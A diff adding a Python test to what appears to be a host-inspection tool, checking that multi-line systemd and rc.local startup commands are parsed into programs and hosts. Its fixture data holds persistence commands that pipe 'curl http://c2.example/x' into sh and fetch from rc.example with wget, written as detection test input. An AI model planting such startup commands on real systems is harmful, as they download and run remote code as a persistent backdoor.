@@ -77,6 +77,27 @@ def test_a_list_that_is_too_long_is_cut_and_says_so() -> None:
     assert not [one for one in fact.unseen if one.field in ("hosts", "hosts[]")]
 
 
+def test_a_command_on_several_lines_is_one() -> None:
+    unit = "[Service]\nExecStart = -/bin/sh -c \\\n  # vỏ bọc\n  'curl http://c2.example/x' \\\n  | sh\nExecStartPre=/bin/true\nExecStopPost=/opt/quay-lai\n"
+    unit_path, rc_path = "/etc/systemd/system/x.service", "/etc/rc.local"
+    recording = {
+        "privileged": True,
+        "run": [{"argv": ["ss", "-H", "-antup"], "status": 0, "out": "", "err": ""}],
+        "read": {
+            "/etc/hosts": "", "/etc/resolv.conf": "", "/proc/1/comm": "systemd\n", unit_path: unit,
+            rc_path: "#!/bin/sh\nwget -q \\\n  http://rc.example/y\n",
+        },
+        "read_all": {
+            **dict.fromkeys(ASKED, []), "/proc/[0-9]*/comm": ["/proc/1/comm"], ASKED[-2]: [unit_path], rc_path: [rc_path],
+        },
+    }  # fmt: skip
+    told = {(one.place, one.programs, one.hosts) for one in linux(ReplayShell(recording)).startup or ()}
+    assert told == {
+        (unit_path, ("sh", "curl"), ("c2.example",)), (unit_path, ("true",), ()), (unit_path, ("quay-lai",), ()),
+        (rc_path, ("wget",), ("rc.example",)),
+    }  # fmt: skip
+
+
 SECRET = "mat-khau-bi-mat"
 
 
